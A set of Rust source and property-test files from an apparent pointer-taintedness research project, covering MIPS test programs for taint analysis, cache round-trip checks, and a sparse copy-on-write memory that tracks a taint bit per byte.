/// keeps `$8` as the "result" register the probe site dereferences, uses
/// `$10` as scratch, and leaves the machine in a state any successor
/// snippet accepts.
fn snippet(op: u8) -> &'static str {
    match op {
        // A clean integer constant.
        0 => "addiu $8, $0, 64\n",
        // A (clean) pointer to the data word.
        1 => "lui $8, %hi(buf)\nori $8, $8, %lo(buf)\n",
        // read(0, buf, 4): taints the data word.
        2 => {
            "addiu $4, $0, 0\nlui $5, %hi(buf)\nori $5, $5, %lo(buf)\n\
              addiu $6, $0, 4\naddiu $2, $0, 3\nsyscall\n"
        }
        // Load the data word: tainted iff a read ran before.
        3 => "lui $10, %hi(buf)\nori $10, $10, %lo(buf)\nlw $8, 0($10)\n",
        // Store the result back into the data word.
        4 => "lui $10, %hi(buf)\nori $10, $10, %lo(buf)\nsw $8, 0($10)\n",
        // Pointer/integer arithmetic on the result.
        _ => "addiu $8, $8, 4\n",
    }
}

fn body(ops: &[u8]) -> String {
    ops.iter().map(|&op| snippet(op)).collect()
}

/// The callee-as-summary variant: `main` calls `f` and then dereferences
/// whatever `f` left in `$8`.
fn call_program(ops: &[u8]) -> Image {
    assemble(&format!(
        "        .data
buf:    .word 0
        .text
main:   addiu $29, $29, -8
        sw $31, 4($29)
        jal f
        lw $31, 4($29)
        addiu $29, $29, 8
probe:  lw $11, 0($8)
        jr $31
f:      {}        jr $31",
        body(ops)
    ))
    .expect("call variant assembles")
}

/// The inlined variant: `f`'s body spliced directly before the probe.
fn inline_program(ops: &[u8]) -> Image {
    assemble(&format!(
        "        .data
buf:    .word 0
        .text
main:   {}probe:  lw $11, 0($8)
        jr $31",
        body(ops)
    ))
    .expect("inline variant assembles")
}

/// A scratch cache directory unique to this process and image.
fn scratch_dir(image: &Image) -> std::path::PathBuf {
    std::env::temp_dir().join(format!(
        "ptaint-props-{}-{:016x}",
        std::process::id(),
        cache::image_hash(image),
    ))
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(32))]

    /// Warm-cache loads are indistinguishable from the cold run: the
    /// parsed [`Analysis`] compares equal and the rendered report (the
    /// CLI's output, diffed by the `-j1`/`-jN` CI gate) is byte-identical.
    #[test]
    fn warm_cache_load_is_byte_identical_to_cold(
        ops in proptest::collection::vec(0u8..6, 1..12)
    ) {
        let image = call_program(&ops);
        let cold = analyze(&image);
        let dir = scratch_dir(&image);
        let _ = std::fs::remove_dir_all(&dir);
        cache::store(&dir, &image, &cold).expect("store succeeds");
        let warm = cache::load(&dir, &image)
            .expect("entry parses")
            .expect("entry exists");
        let _ = std::fs::remove_dir_all(&dir);
        prop_assert_eq!(&cold.proven, &warm.proven, "ProvenClean drifted through the cache");
        prop_assert_eq!(
            render_report(&image, &cold),
            render_report(&image, &warm),
            "rendered report drifted through the cache"
        );
        prop_assert_eq!(cold, warm);
    }

    /// Applying `f`'s exit summary at the call site never grades the
    /// post-call probe *cleaner* than inlining `f`'s body: summaries may
    /// widen (rank higher), never hide taint an inline analysis sees.
    #[test]
    fn summary_application_is_never_cleaner_than_inlining(
        ops in proptest::collection::vec(0u8..6, 1..12)
    ) {
        let called = call_program(&ops);
        let inlined = inline_program(&ops);
        let a = analyze(&called);
        let b = analyze(&inlined);
        prop_assert!(a.degraded.is_none(), "call variant degraded: {:?}", a.degraded);
        prop_assert!(b.degraded.is_none(), "inline variant degraded: {:?}", b.degraded);
        let pa = called.symbol("probe").expect("probe symbol");
        let pb = inlined.symbol("probe").expect("probe symbol");
        prop_assert!(
            rank(&a, pa) >= rank(&b, pb),
            "summary at probe ranked {} but inline ranked {} (ops {:?})",
            rank(&a, pa),
            rank(&b, pb),
            ops
        );
    }
}
