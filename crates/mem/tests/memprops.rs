//! Property tests for the taint-extended memory system.

use proptest::prelude::*;
use ptaint_mem::{HierarchyConfig, MemorySystem, TaintedMemory, WordTaint};

proptest! {
    /// Data and taint written byte-by-byte are read back exactly (flat memory).
    #[test]
    fn byte_roundtrip(addr in 0x1000u32..0x8000_0000, val in any::<u8>(), t in any::<bool>()) {
        let mut mem = TaintedMemory::new();
        mem.write_u8(addr, val, t).unwrap();
        prop_assert_eq!(mem.read_u8(addr).unwrap(), (val, t));
    }

    /// Word round trips preserve per-byte taint (flat memory).
    #[test]
    fn word_roundtrip(addr_w in 0x400u32..0x1fff_ffff, val in any::<u32>(), bits in 0u8..16) {
        let addr = addr_w * 4;
        let taint = WordTaint::from_bits(bits);
        let mut mem = TaintedMemory::new();
        mem.write_u32(addr, val, taint).unwrap();
        prop_assert_eq!(mem.read_u32(addr).unwrap(), (val, taint));
    }

    /// The cached hierarchy always agrees with flat memory on reads,
    /// including taint, under arbitrary interleaved traffic.
    #[test]
    fn hierarchy_is_coherent(ops in proptest::collection::vec(
        (0u32..64, any::<u8>(), any::<bool>(), any::<bool>()), 1..200))
    {
        let mut flat = MemorySystem::flat();
        let mut cached = MemorySystem::new(HierarchyConfig::two_level());
        let base = 0x1000_0000u32;
        for (slot, val, tainted, is_write) in ops {
            let addr = base + slot;
            if is_write {
                flat.write_u8(addr, val, tainted).unwrap();
                cached.write_u8(addr, val, tainted).unwrap();
            } else {
                prop_assert_eq!(flat.read_u8(addr).unwrap(), cached.read_u8(addr).unwrap());
            }
        }
        for slot in 0..64u32 {
            prop_assert_eq!(
                flat.read_u8(base + slot).unwrap(),
                cached.read_u8(base + slot).unwrap()
            );
        }
    }

    /// Bulk writes taint exactly the written range.
    #[test]
    fn bulk_taint_is_exact(len in 1u32..128, pad in 1u32..16) {
        let mut mem = TaintedMemory::new();
        let base = 0x2000_0000;
        let data = vec![0xabu8; len as usize];
        mem.write_bytes(base + pad, &data, true).unwrap();
        prop_assert!(!mem.read_u8(base + pad - 1).unwrap().1);
        prop_assert!(mem.read_taint(base + pad, len).unwrap().iter().all(|&t| t));
        prop_assert!(!mem.read_u8(base + pad + len).unwrap().1);
        prop_assert_eq!(mem.tainted_byte_count(), u64::from(len));
    }

    /// Copy-on-write forks never alias: arbitrary interleaved writes (data
    /// bytes, bulk writes with shadow taint, and taint-only range flips)
    /// applied to the parent and two forked children after `fork()` leave
    /// each timeline byte-identical to an unforked replay of its own
    /// history — no write in one timeline is ever visible in another.
    #[test]
    fn forks_never_alias_parent_or_sibling(
        setup in proptest::collection::vec((0u32..96, any::<u8>(), any::<bool>()), 0..32),
        streams in proptest::collection::vec(
            (0usize..3, 0u32..96, any::<u8>(), any::<bool>(), 0u8..3), 1..96))
    {
        // The window deliberately straddles page boundaries so COW faults
        // split shared pages mid-stream.
        let base = 0x3000_0fc0u32;
        let apply = |mem: &mut TaintedMemory, slot: u32, val: u8, t: bool, kind: u8| {
            match kind {
                0 => mem.write_u8(base + slot, val, t).unwrap(),
                1 => mem.write_bytes(base + slot, &[val; 5], t).unwrap(),
                _ => mem.set_taint_range(base + slot, 7, t).unwrap(),
            }
        };

        let mut parent = TaintedMemory::new();
        for &(slot, val, t) in &setup {
            parent.write_u8(base + slot, val, t).unwrap();
        }
        let mut children = [parent.fork(), parent.fork()];

        // Replays: one unforked memory per timeline, fed the same history.
        let mut replays = [TaintedMemory::new(), TaintedMemory::new(), TaintedMemory::new()];
        for replay in &mut replays {
            for &(slot, val, t) in &setup {
                replay.write_u8(base + slot, val, t).unwrap();
            }
        }

        for &(who, slot, val, t, kind) in &streams {
            let target = match who {
                0 => &mut parent,
                i => &mut children[i - 1],
            };
            apply(target, slot, val, t, kind);
            apply(&mut replays[who], slot, val, t, kind);
        }

        for (timeline, replay) in [&parent, &children[0], &children[1]].into_iter().zip(&replays) {
            for slot in 0..104u32 {
                prop_assert_eq!(
                    timeline.read_u8(base + slot).unwrap(),
                    replay.read_u8(base + slot).unwrap(),
                    "fork timeline diverged from its unforked replay at slot {}", slot
                );
            }
            prop_assert_eq!(timeline.tainted_byte_count(), replay.tainted_byte_count());
        }
    }
}
