//! Property tests for the taint-extended memory system.

use proptest::prelude::*;
use ptaint_mem::{HierarchyConfig, MemorySystem, TaintedMemory, WordTaint};

proptest! {
    /// Data and taint written byte-by-byte are read back exactly (flat memory).
    #[test]
    fn byte_roundtrip(addr in 0x1000u32..0x8000_0000, val in any::<u8>(), t in any::<bool>()) {
        let mut mem = TaintedMemory::new();
        mem.write_u8(addr, val, t).unwrap();
        prop_assert_eq!(mem.read_u8(addr).unwrap(), (val, t));
    }

    /// Word round trips preserve per-byte taint (flat memory).
    #[test]
    fn word_roundtrip(addr_w in 0x400u32..0x1fff_ffff, val in any::<u32>(), bits in 0u8..16) {
        let addr = addr_w * 4;
        let taint = WordTaint::from_bits(bits);
        let mut mem = TaintedMemory::new();
        mem.write_u32(addr, val, taint).unwrap();
        prop_assert_eq!(mem.read_u32(addr).unwrap(), (val, taint));
    }

    /// The cached hierarchy always agrees with flat memory on reads,
    /// including taint, under arbitrary interleaved traffic.
    #[test]
    fn hierarchy_is_coherent(ops in proptest::collection::vec(
        (0u32..64, any::<u8>(), any::<bool>(), any::<bool>()), 1..200))
    {
        let mut flat = MemorySystem::flat();
        let mut cached = MemorySystem::new(HierarchyConfig::two_level());
        let base = 0x1000_0000u32;
        for (slot, val, tainted, is_write) in ops {
            let addr = base + slot;
            if is_write {
                flat.write_u8(addr, val, tainted).unwrap();
                cached.write_u8(addr, val, tainted).unwrap();
            } else {
                prop_assert_eq!(flat.read_u8(addr).unwrap(), cached.read_u8(addr).unwrap());
            }
        }
        for slot in 0..64u32 {
            prop_assert_eq!(
                flat.read_u8(base + slot).unwrap(),
                cached.read_u8(base + slot).unwrap()
            );
        }
    }

    /// Bulk writes taint exactly the written range.
    #[test]
    fn bulk_taint_is_exact(len in 1u32..128, pad in 1u32..16) {
        let mut mem = TaintedMemory::new();
        let base = 0x2000_0000;
        let data = vec![0xabu8; len as usize];
        mem.write_bytes(base + pad, &data, true).unwrap();
        prop_assert!(!mem.read_u8(base + pad - 1).unwrap().1);
        prop_assert!(mem.read_taint(base + pad, len).unwrap().iter().all(|&t| t));
        prop_assert!(!mem.read_u8(base + pad + len).unwrap().1);
        prop_assert_eq!(mem.tainted_byte_count(), u64::from(len));
    }
}
