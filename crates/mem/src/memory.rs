//! Sparse paged memory with a shadow taintedness bit per byte.
//!
//! Pages are reference-counted ([`Arc`]) so a whole address space can be
//! forked in O(pages) pointer copies: [`TaintedMemory::fork`] shares every
//! page between parent and child, and the first write to a shared page
//! copies it (copy-on-write). Read paths never unshare.

use std::collections::HashMap;
use std::fmt;
use std::sync::Arc;

use ptaint_isa::PAGE_SIZE;

use crate::WordTaint;

const PAGE_BYTES: usize = PAGE_SIZE as usize;
const TAINT_WORDS: usize = PAGE_BYTES / 64;

/// A memory access fault.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct MemFault {
    /// What went wrong.
    pub kind: MemFaultKind,
    /// The offending virtual address.
    pub addr: u32,
}

/// The kind of a [`MemFault`].
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum MemFaultKind {
    /// A word or halfword access to an address that is not a multiple of the
    /// access width.
    Unaligned,
    /// An access inside the guard page at address zero. Dereferencing wild
    /// pointers (e.g. NULL) crashes realistically instead of silently reading
    /// zeroes.
    NullDeref,
}

impl fmt::Display for MemFault {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self.kind {
            MemFaultKind::Unaligned => write!(f, "unaligned memory access at {:#010x}", self.addr),
            MemFaultKind::NullDeref => {
                write!(f, "null-page dereference at {:#010x}", self.addr)
            }
        }
    }
}

impl std::error::Error for MemFault {}

/// One 4 KiB page: data bytes plus a taint bit per byte.
#[derive(Clone)]
struct Page {
    data: Box<[u8; PAGE_BYTES]>,
    taint: Box<[u64; TAINT_WORDS]>,
}

impl Page {
    fn new() -> Page {
        Page {
            data: Box::new([0; PAGE_BYTES]),
            taint: Box::new([0; TAINT_WORDS]),
        }
    }

    fn taint_bit(&self, off: usize) -> bool {
        self.taint[off / 64] & (1 << (off % 64)) != 0
    }

    fn set_taint_bit(&mut self, off: usize, tainted: bool) {
        let (word, bit) = (off / 64, 1u64 << (off % 64));
        if tainted {
            self.taint[word] |= bit;
        } else {
            self.taint[word] &= !bit;
        }
    }

    fn tainted_bytes(&self) -> u64 {
        self.taint.iter().map(|w| u64::from(w.count_ones())).sum()
    }
}

/// A sparse, little-endian, byte-addressable memory in which **every byte has
/// a taintedness bit**, implementing the extended memory model of paper §4.1.
///
/// Pages are allocated on first touch. Word and halfword accesses must be
/// naturally aligned; accesses to the zero page fault (see
/// [`MemFaultKind::NullDeref`]).
///
/// ```
/// use ptaint_mem::{TaintedMemory, WordTaint};
///
/// let mut mem = TaintedMemory::new();
/// mem.write_u32(0x1000_0000, 0xdead_beef, WordTaint::from_bits(0b0010))?;
/// let (v, t) = mem.read_u32(0x1000_0000)?;
/// assert_eq!(v, 0xdead_beef);
/// assert!(t.byte(1) && !t.byte(0));
/// # Ok::<(), ptaint_mem::MemFault>(())
/// ```
#[derive(Default)]
pub struct TaintedMemory {
    pages: HashMap<u32, Arc<Page>>,
    null_guard: bool,
    tainted_writes: u64,
    cow_faults: u64,
}

impl fmt::Debug for TaintedMemory {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("TaintedMemory")
            .field("pages", &self.pages.len())
            .field("null_guard", &self.null_guard)
            .field("tainted_writes", &self.tainted_writes)
            .field("cow_faults", &self.cow_faults)
            .finish()
    }
}

impl TaintedMemory {
    /// Creates an empty memory with the null-page guard enabled.
    #[must_use]
    pub fn new() -> TaintedMemory {
        TaintedMemory {
            pages: HashMap::new(),
            null_guard: true,
            tainted_writes: 0,
            cow_faults: 0,
        }
    }

    /// Creates an empty memory without the null-page guard (every address,
    /// including page zero, is readable/writable). Useful for raw unit tests.
    #[must_use]
    pub fn without_null_guard() -> TaintedMemory {
        TaintedMemory {
            pages: HashMap::new(),
            null_guard: false,
            tainted_writes: 0,
            cow_faults: 0,
        }
    }

    /// A copy-on-write fork of this memory: the child shares every page
    /// (data *and* shadow taint) with the parent by reference count, so the
    /// fork costs O(pages) pointer copies instead of O(bytes). The first
    /// write either side makes to a shared page unshares just that page (a
    /// "COW fault", counted per instance by
    /// [`TaintedMemory::cow_fault_count`]). The cumulative
    /// [`TaintedMemory::tainted_write_count`] is inherited so a forked run
    /// reports the same traffic statistics as a fresh one; the child's COW
    /// fault counter starts at zero.
    #[must_use]
    pub fn fork(&self) -> TaintedMemory {
        TaintedMemory {
            pages: self.pages.clone(),
            null_guard: self.null_guard,
            tainted_writes: self.tainted_writes,
            cow_faults: 0,
        }
    }

    /// Number of materialized pages currently shared with at least one fork
    /// (reference count above one).
    #[must_use]
    pub fn pages_shared(&self) -> usize {
        self.pages
            .values()
            .filter(|p| Arc::strong_count(p) > 1)
            .count()
    }

    /// Number of writes that had to unshare a page since this instance was
    /// created or forked.
    #[must_use]
    pub fn cow_fault_count(&self) -> u64 {
        self.cow_faults
    }

    fn check(&self, addr: u32, align: u32) -> Result<(), MemFault> {
        if self.null_guard && addr < PAGE_SIZE {
            return Err(MemFault {
                kind: MemFaultKind::NullDeref,
                addr,
            });
        }
        if align > 1 && !addr.is_multiple_of(align) {
            return Err(MemFault {
                kind: MemFaultKind::Unaligned,
                addr,
            });
        }
        Ok(())
    }

    fn page(&mut self, addr: u32) -> &mut Page {
        let arc = self
            .pages
            .entry(addr / PAGE_SIZE)
            .or_insert_with(|| Arc::new(Page::new()));
        if Arc::strong_count(arc) > 1 {
            self.cow_faults += 1;
        }
        Arc::make_mut(arc)
    }

    /// Reads one byte and its taint bit.
    ///
    /// # Errors
    ///
    /// Faults on a null-page access.
    pub fn read_u8(&self, addr: u32) -> Result<(u8, bool), MemFault> {
        self.check(addr, 1)?;
        let off = (addr % PAGE_SIZE) as usize;
        Ok(match self.pages.get(&(addr / PAGE_SIZE)) {
            Some(p) => (p.data[off], p.taint_bit(off)),
            None => (0, false),
        })
    }

    /// Writes one byte and its taint bit.
    ///
    /// # Errors
    ///
    /// Faults on a null-page access.
    pub fn write_u8(&mut self, addr: u32, value: u8, tainted: bool) -> Result<(), MemFault> {
        self.check(addr, 1)?;
        if tainted {
            self.tainted_writes += 1;
        }
        let off = (addr % PAGE_SIZE) as usize;
        let page = self.page(addr);
        page.data[off] = value;
        page.set_taint_bit(off, tainted);
        Ok(())
    }

    /// Reads a little-endian halfword; taint bits land in the low half of the
    /// returned [`WordTaint`].
    ///
    /// # Errors
    ///
    /// Faults when `addr` is not 2-aligned or inside the null page.
    pub fn read_u16(&self, addr: u32) -> Result<(u16, WordTaint), MemFault> {
        self.check(addr, 2)?;
        let (b0, t0) = self.read_u8(addr)?;
        let (b1, t1) = self.read_u8(addr + 1)?;
        let taint = WordTaint::CLEAN.with_byte(0, t0).with_byte(1, t1);
        Ok((u16::from_le_bytes([b0, b1]), taint))
    }

    /// Writes a little-endian halfword with the low two taint bits of `taint`.
    ///
    /// # Errors
    ///
    /// Faults when `addr` is not 2-aligned or inside the null page.
    pub fn write_u16(&mut self, addr: u32, value: u16, taint: WordTaint) -> Result<(), MemFault> {
        self.check(addr, 2)?;
        let [b0, b1] = value.to_le_bytes();
        self.write_u8(addr, b0, taint.byte(0))?;
        self.write_u8(addr + 1, b1, taint.byte(1))
    }

    /// Reads a little-endian word together with its four taint bits.
    ///
    /// This is the word-granular fast path: one page lookup, one 4-byte
    /// slice, and one shadow-word extraction. A 4-aligned word's taint bits
    /// can never straddle a shadow `u64` (`64 % 4 == 0`), so a single shift
    /// recovers all four.
    ///
    /// # Errors
    ///
    /// Faults when `addr` is not 4-aligned or inside the null page.
    pub fn read_u32(&self, addr: u32) -> Result<(u32, WordTaint), MemFault> {
        self.check(addr, 4)?;
        let off = (addr % PAGE_SIZE) as usize;
        Ok(match self.pages.get(&(addr / PAGE_SIZE)) {
            Some(p) => {
                let bytes: [u8; 4] = p.data[off..off + 4].try_into().unwrap();
                let bits = ((p.taint[off / 64] >> (off % 64)) & 0xF) as u8;
                (u32::from_le_bytes(bytes), WordTaint::from_bits(bits))
            }
            None => (0, WordTaint::CLEAN),
        })
    }

    /// Writes a little-endian word together with its four taint bits.
    ///
    /// Like [`TaintedMemory::read_u32`], this resolves the page once and
    /// patches the four taint bits with a single masked shadow-word update.
    ///
    /// # Errors
    ///
    /// Faults when `addr` is not 4-aligned or inside the null page.
    pub fn write_u32(&mut self, addr: u32, value: u32, taint: WordTaint) -> Result<(), MemFault> {
        self.check(addr, 4)?;
        self.tainted_writes += u64::from(taint.bits().count_ones());
        let off = (addr % PAGE_SIZE) as usize;
        let page = self.page(addr);
        page.data[off..off + 4].copy_from_slice(&value.to_le_bytes());
        let (word, shift) = (off / 64, off % 64);
        page.taint[word] =
            (page.taint[word] & !(0xF_u64 << shift)) | (u64::from(taint.bits()) << shift);
        Ok(())
    }

    /// Copies `data` into memory, marking every written byte with `tainted`.
    ///
    /// This is the primitive the virtual OS uses when returning data from
    /// `SYS_READ`/`SYS_RECV` into a user buffer: data from an external source
    /// arrives with `tainted == true` (paper §4.4).
    ///
    /// # Errors
    ///
    /// Faults when the range touches the null page.
    pub fn write_bytes(&mut self, addr: u32, data: &[u8], tainted: bool) -> Result<(), MemFault> {
        // One page lookup (and one null-guard check — the guard is
        // page-granular) per crossed page, not per byte. A fault mid-range
        // still leaves every byte of the preceding pages written, exactly
        // like the old byte-at-a-time loop.
        let mut i = 0;
        while i < data.len() {
            let a = addr.wrapping_add(i as u32);
            self.check(a, 1)?;
            let off = (a % PAGE_SIZE) as usize;
            let run = (data.len() - i).min(PAGE_BYTES - off);
            if tainted {
                self.tainted_writes += run as u64;
            }
            let page = self.page(a);
            page.data[off..off + run].copy_from_slice(&data[i..i + run]);
            for o in off..off + run {
                page.set_taint_bit(o, tainted);
            }
            i += run;
        }
        Ok(())
    }

    /// Reads `len` bytes (data only).
    ///
    /// # Errors
    ///
    /// Faults when the range touches the null page.
    pub fn read_bytes(&self, addr: u32, len: u32) -> Result<Vec<u8>, MemFault> {
        (0..len)
            .map(|i| self.read_u8(addr + i).map(|(b, _)| b))
            .collect()
    }

    /// Reads `len` taint bits starting at `addr`.
    ///
    /// # Errors
    ///
    /// Faults when the range touches the null page.
    pub fn read_taint(&self, addr: u32, len: u32) -> Result<Vec<bool>, MemFault> {
        (0..len)
            .map(|i| self.read_u8(addr + i).map(|(_, t)| t))
            .collect()
    }

    /// Reads a NUL-terminated byte string of at most `max` bytes (terminator
    /// excluded).
    ///
    /// # Errors
    ///
    /// Faults when the scan touches the null page.
    pub fn read_cstr(&self, addr: u32, max: u32) -> Result<Vec<u8>, MemFault> {
        let mut out = Vec::new();
        for i in 0..max {
            let (b, _) = self.read_u8(addr + i)?;
            if b == 0 {
                break;
            }
            out.push(b);
        }
        Ok(out)
    }

    /// Marks every byte in `[addr, addr + len)` with `tainted` without
    /// touching the data.
    ///
    /// # Errors
    ///
    /// Faults when the range touches the null page.
    pub fn set_taint_range(&mut self, addr: u32, len: u32, tainted: bool) -> Result<(), MemFault> {
        // Page lookup hoisted per crossed page, like `write_bytes`. The data
        // bytes are untouched; this flips shadow bits only.
        let mut i = 0;
        while i < len {
            let a = addr.wrapping_add(i);
            self.check(a, 1)?;
            let off = (a % PAGE_SIZE) as usize;
            let run = (len - i).min((PAGE_BYTES - off) as u32);
            let page = self.page(a);
            for o in off..off + run as usize {
                page.set_taint_bit(o, tainted);
            }
            i += run;
        }
        Ok(())
    }

    /// Maximal contiguous runs of tainted bytes, as `(base, len)` pairs in
    /// ascending address order.
    ///
    /// The scan visits materialized pages in sorted order (the underlying
    /// map is unordered), so the result is deterministic for a given memory
    /// state — the fault-injection harness relies on that to pick corruption
    /// targets reproducibly from a seed.
    #[must_use]
    pub fn tainted_ranges(&self) -> Vec<(u32, u32)> {
        let mut pages: Vec<u32> = self
            .pages
            .iter()
            .filter(|(_, p)| p.tainted_bytes() > 0)
            .map(|(&i, _)| i)
            .collect();
        pages.sort_unstable();
        let mut ranges: Vec<(u32, u32)> = Vec::new();
        for pi in pages {
            let page = &self.pages[&pi];
            let base = pi * PAGE_SIZE;
            for (wi, &word) in page.taint.iter().enumerate() {
                if word == 0 {
                    continue;
                }
                for bit in 0..64 {
                    if word & (1 << bit) == 0 {
                        continue;
                    }
                    let addr = base + (wi * 64 + bit) as u32;
                    match ranges.last_mut() {
                        Some((start, len)) if start.wrapping_add(*len) == addr => *len += 1,
                        _ => ranges.push((addr, 1)),
                    }
                }
            }
        }
        ranges
    }

    /// Number of pages currently materialized.
    #[must_use]
    pub fn page_count(&self) -> usize {
        self.pages.len()
    }

    /// Total number of tainted bytes across all pages — the quantity behind
    /// the paper's space-overhead discussion (§5.4).
    #[must_use]
    pub fn tainted_byte_count(&self) -> u64 {
        self.pages.values().map(|p| p.tainted_bytes()).sum()
    }

    /// Cumulative count of byte writes that carried taint, over the whole
    /// run. Unlike [`TaintedMemory::tainted_byte_count`] this never
    /// decreases when bytes are overwritten clean, so it measures taint
    /// *traffic* rather than taint *residency*.
    #[must_use]
    pub fn tainted_write_count(&self) -> u64 {
        self.tainted_writes
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn zero_initialized_and_untainted() {
        let mem = TaintedMemory::new();
        assert_eq!(mem.read_u8(0x1000).unwrap(), (0, false));
        assert_eq!(mem.read_u32(0x0040_0000).unwrap(), (0, WordTaint::CLEAN));
        assert_eq!(mem.page_count(), 0);
        assert_eq!(mem.tainted_byte_count(), 0);
    }

    #[test]
    fn byte_write_read_with_taint() {
        let mut mem = TaintedMemory::new();
        mem.write_u8(0x2000, 0xab, true).unwrap();
        assert_eq!(mem.read_u8(0x2000).unwrap(), (0xab, true));
        mem.write_u8(0x2000, 0xcd, false).unwrap();
        assert_eq!(mem.read_u8(0x2000).unwrap(), (0xcd, false));
        assert_eq!(mem.page_count(), 1);
    }

    #[test]
    fn word_is_little_endian() {
        let mut mem = TaintedMemory::new();
        mem.write_bytes(0x3000, &[0x61, 0x62, 0x63, 0x64], true)
            .unwrap();
        let (v, t) = mem.read_u32(0x3000).unwrap();
        assert_eq!(v, 0x6463_6261);
        assert_eq!(t, WordTaint::ALL);
    }

    #[test]
    fn per_byte_taint_granularity_in_words() {
        let mut mem = TaintedMemory::new();
        mem.write_u32(0x3000, 0x1122_3344, WordTaint::from_bits(0b0110))
            .unwrap();
        let (_, t) = mem.read_u32(0x3000).unwrap();
        assert_eq!(t.bits(), 0b0110);
        // Individual bytes see their own bit.
        assert!(!mem.read_u8(0x3000).unwrap().1);
        assert!(mem.read_u8(0x3001).unwrap().1);
        assert!(mem.read_u8(0x3002).unwrap().1);
        assert!(!mem.read_u8(0x3003).unwrap().1);
        assert_eq!(mem.tainted_byte_count(), 2);
    }

    #[test]
    fn word_fast_path_agrees_with_byte_path() {
        // Exercise words adjacent to every interesting boundary: the shadow
        // u64 seam (offset 64) and the page seam.
        let mut mem = TaintedMemory::new();
        for (i, addr) in [0x2038, 0x203c, 0x2040, 2 * PAGE_SIZE - 4, 2 * PAGE_SIZE]
            .into_iter()
            .enumerate()
        {
            let taint = WordTaint::from_bits(0b1010 >> (i % 2));
            mem.write_u32(addr, 0x0101_0101 * (i as u32 + 1), taint)
                .unwrap();
            let (word, wt) = mem.read_u32(addr).unwrap();
            assert_eq!(word, 0x0101_0101 * (i as u32 + 1));
            assert_eq!(wt, taint);
            for b in 0..4 {
                let (byte, bt) = mem.read_u8(addr + b).unwrap();
                assert_eq!(u32::from(byte), i as u32 + 1);
                assert_eq!(bt, taint.byte(b as usize), "byte {b} of {addr:#x}");
            }
        }
        // Word writes count taint traffic per tainted byte, like byte writes.
        let mut a = TaintedMemory::new();
        a.write_u32(0x3000, 0, WordTaint::from_bits(0b1011))
            .unwrap();
        let mut b = TaintedMemory::new();
        for i in 0..4u32 {
            b.write_u8(0x3000 + i, 0, 0b1011 & (1 << i) != 0).unwrap();
        }
        assert_eq!(a.tainted_write_count(), b.tainted_write_count());
    }

    #[test]
    fn halfword_roundtrip() {
        let mut mem = TaintedMemory::new();
        mem.write_u16(0x4000, 0xbeef, WordTaint::from_bits(0b01))
            .unwrap();
        let (v, t) = mem.read_u16(0x4000).unwrap();
        assert_eq!(v, 0xbeef);
        assert!(t.byte(0) && !t.byte(1));
    }

    #[test]
    fn unaligned_accesses_fault() {
        let mut mem = TaintedMemory::new();
        assert_eq!(
            mem.read_u32(0x1001).unwrap_err().kind,
            MemFaultKind::Unaligned
        );
        assert_eq!(
            mem.read_u16(0x1001).unwrap_err().kind,
            MemFaultKind::Unaligned
        );
        assert_eq!(
            mem.write_u32(0x1002, 0, WordTaint::CLEAN).unwrap_err().kind,
            MemFaultKind::Unaligned
        );
        // Byte accesses never require alignment.
        mem.write_u8(0x1001, 1, false).unwrap();
    }

    #[test]
    fn null_page_guard() {
        let mut mem = TaintedMemory::new();
        assert_eq!(mem.read_u8(0).unwrap_err().kind, MemFaultKind::NullDeref);
        assert_eq!(mem.read_u8(4095).unwrap_err().kind, MemFaultKind::NullDeref);
        assert_eq!(
            mem.write_u32(0, 1, WordTaint::CLEAN).unwrap_err().kind,
            MemFaultKind::NullDeref
        );
        mem.read_u8(4096).unwrap();

        let mut raw = TaintedMemory::without_null_guard();
        raw.write_u8(0, 7, true).unwrap();
        assert_eq!(raw.read_u8(0).unwrap(), (7, true));
    }

    #[test]
    fn cross_page_bulk_copy() {
        let mut mem = TaintedMemory::new();
        let data: Vec<u8> = (0..=255).collect();
        let base = 2 * PAGE_SIZE - 128; // straddles a page boundary
        mem.write_bytes(base, &data, true).unwrap();
        assert_eq!(mem.read_bytes(base, 256).unwrap(), data);
        assert!(mem.read_taint(base, 256).unwrap().iter().all(|&t| t));
        assert_eq!(mem.page_count(), 2);
        assert_eq!(mem.tainted_byte_count(), 256);
    }

    #[test]
    fn cstr_reading() {
        let mut mem = TaintedMemory::new();
        mem.write_bytes(0x5000, b"hello\0world", false).unwrap();
        assert_eq!(mem.read_cstr(0x5000, 64).unwrap(), b"hello");
        // max cap respected when no terminator appears
        assert_eq!(mem.read_cstr(0x5000, 3).unwrap(), b"hel");
    }

    #[test]
    fn tainted_ranges_merge_across_shadow_and_page_seams() {
        let mut mem = TaintedMemory::new();
        assert!(mem.tainted_ranges().is_empty());
        // One run straddling a page boundary, one isolated byte, one run
        // straddling a shadow-u64 seam.
        mem.write_bytes(2 * PAGE_SIZE - 3, b"abcdef", true).unwrap();
        mem.write_u8(0x9000, 1, true).unwrap();
        mem.write_bytes(0x703e, b"xyzw", true).unwrap();
        assert_eq!(
            mem.tainted_ranges(),
            vec![(2 * PAGE_SIZE - 3, 6), (0x703e, 4), (0x9000, 1)]
        );
        // Clearing splits a run.
        mem.set_taint_range(0x7040, 1, false).unwrap();
        assert_eq!(
            mem.tainted_ranges(),
            vec![
                (2 * PAGE_SIZE - 3, 6),
                (0x703e, 2),
                (0x7041, 1),
                (0x9000, 1)
            ]
        );
    }

    #[test]
    fn fork_shares_pages_until_written() {
        let mut parent = TaintedMemory::new();
        parent.write_bytes(0x2000, b"seed", true).unwrap();
        parent.write_u8(0x5000, 9, false).unwrap();
        let mut child = parent.fork();
        assert_eq!(parent.pages_shared(), 2);
        assert_eq!(child.pages_shared(), 2);
        assert_eq!(child.read_bytes(0x2000, 4).unwrap(), b"seed");
        assert_eq!(child.tainted_write_count(), parent.tainted_write_count());
        assert_eq!(child.cow_fault_count(), 0);

        // Reads never unshare.
        let _ = child.read_u32(0x2000).unwrap();
        assert_eq!(child.pages_shared(), 2);

        // The first write to a shared page copies it; the sibling page stays
        // shared, and the parent never sees the child's write.
        child.write_u8(0x2000, b'X', false).unwrap();
        assert_eq!(child.cow_fault_count(), 1);
        assert_eq!(child.pages_shared(), 1);
        assert_eq!(parent.read_u8(0x2000).unwrap(), (b's', true));
